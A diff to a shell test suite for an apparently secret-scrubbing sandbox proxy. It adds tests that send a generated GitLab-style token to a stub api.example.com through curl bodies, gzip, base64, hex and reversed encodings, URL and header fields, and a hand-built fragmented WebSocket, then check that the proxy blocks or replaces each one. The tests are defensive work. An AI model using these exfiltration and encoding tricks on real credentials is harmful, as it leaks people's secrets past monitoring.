@@ -152,6 +152,56 @@ check 'a name that leads into the private network' has out '10.1.2.3 (private)'
 check 'a name that leads to a metadata server' has out 'metadata server'
 check 'nothing of that arrived, again' test ! -s "$work/stub/seen"
 
+# ── what a request says: secrets are made here, so that none is in the source ──
+random() { # BYTES ALPHABET
+	head -c 4000 /dev/urandom | LC_ALL=C tr -dc "$2" | head -c "$1"
+}
+secret=glpat-$(random 20 A-Za-z0-9)
+printf '%s' "$secret" >"$work/project/token.txt"
+: >"$work/stub/bodies"
+inside 'curl -sS -d "{\"text\": \"the token is $(cat token.txt), thanks\"}" https://api.example.com/echo'
+check 'a secret is replaced on its way out' grep -q 'postern-gitlab-token-' "$work/stub/bodies"
+check 'it does not arrive' hasnt stub/bodies "$secret"
+check 'it is put back in the reply' has out "$secret"
+inside 'gzip -c token.txt | curl -sS -H "content-encoding: gzip" --data-binary @- https://api.example.com/echo; base64 token.txt | curl -sS --data-binary @- https://api.example.com/echo
+	xxd -p token.txt | curl -sS --data-binary @- https://api.example.com/echo; rev token.txt | curl -sS --data-binary @- https://api.example.com/echo'
+for form in "$secret" "$(base64 <<<"$secret" | cut -c 1-24)" "$(rev <<<"$secret")" "$(printf '%s' "$secret" | od -An -tx1 | tr -d ' \n' | cut -c 1-30)"; do
+	check "not in another form either: ${form:0:6}…" hasnt stub/bodies "$form"
+done
+: >"$work/stub/seen"
+inside 'curl -sS "https://api.example.com/x?token=$(cat token.txt)"; curl -sS -H "x-note: $(cat token.txt)" https://api.example.com/y'
+check 'in the head of a request nothing can be replaced: refused' test "$(grep -c postern_denied "$work/out")" = 2
+check 'and it does not arrive' test ! -s "$work/stub/seen"
+: >"$work/stub/bodies"
+inside 'python3 - <<"X"
+import base64, os, socket, ssl
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com")
+s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
+s.recv(4096)
+def send(data, first, fin):
+    s.sendall(bytes([(128 if fin else 0) + (1 if first else 0), 128 + len(data), 1, 2, 3, 4]) + bytes(x ^ (i % 4 + 1) for i, x in enumerate(data)))
+t = b"my token is " + open("token.txt", "rb").read()
+send(t[:20], True, False); send(t[20:], False, True)
+s.recv(200)
+send(b"and that is all", True, True)
+print(s.recv(200)[2:].decode())
+X'
+check 'over a WebSocket, in fragments, too' grep -q 'postern-gitlab-token-' "$work/stub/bodies"
+check 'and the secret does not arrive' hasnt stub/bodies "${secret:6}"
+check 'what is harmless goes through behind it' has out 'and that is all'
+mkdir -p "$work/config/postern"
+cat >"$work/config/postern/policy.yaml" <<-X
+	dlp: {secrets: block, canaries: block}
+	credentials:
+	  - {name: api, variable: API_KEY, format: "key-{random}", from: {env: REAL_KEY}, host: api.example.com, header: authorization, prefix: "Bearer "}
+X
+export REAL_KEY=real-key-of-the-person-0123456789
+inside 'curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/auth; echo; echo "inside: $API_KEY $REAL_KEY"; curl -sS -d "x=$(cat token.txt)" https://api.example.com/echo'
+check 'a key takes the place of its placeholder' has out "Bearer $REAL_KEY"
+check 'the tool does not have it' grep -q 'inside: key-[0-9a-f]* $' "$work/out"
+check 'a policy that blocks' has out 'it holds: GitLab token'
+rm "$work/config/postern/policy.yaml"
+
 # ── a server that does not keep to the rules ──
 for path in both two-lengths bare-lf no-status bad-chunk cut 101 long-head many-heads header-injection; do
 	inside "curl -sS -m 10 https://api.example.com/$path; echo; echo code \$?; curl -sS https://api.example.com/after"
@@ -174,7 +224,7 @@ check 'a limit of time' test "$code" = 124
 (cd "$work/project" && exec "$P" run -- sleep 300) >"$work/out" 2>"$work/err" </dev/null &
 pid=$!
 sleep 1.5
-kill -INT $pid
+kill -TERM $pid
 for _ in {1..50}; do
 	kill -0 $pid 2>/dev/null || break
 	sleep 0.1
@@ -197,6 +247,8 @@ check 'denied requests' test "$(jq -r 'select(.entry.class_uid == 4002 and .entr
 check 'begin before end, of every run that ended' test "$(jq -r 'select(.entry.class_uid == 6002) | .entry.activity_name' "$work/out" | uniq -c | awk '$1 > 2' | wc -l)" = 0
 check 'the confinement' test "$(jq -r 'select(.entry.class_uid == 6002) | .entry.unmapped.confinement' "$work/out" | grep -c namespaces)" -ge 20
 check 'no query is in it' hasnt out 'q=1'
+check 'what was found is in it' test "$(jq -r 'select(.entry.unmapped.postern.gate.found != null) | .index' "$work/out" | wc -l)" -ge 6
+check 'but not the secret' hasnt out "$secret"
 (cd "$work/project" && "$P" run --ledger /proc/no/ledger -- true) >"$work/out" 2>"$work/err"
 check 'without a ledger nothing runs' test $? = 125
 check 'and says how it can' has err '--ledger none'
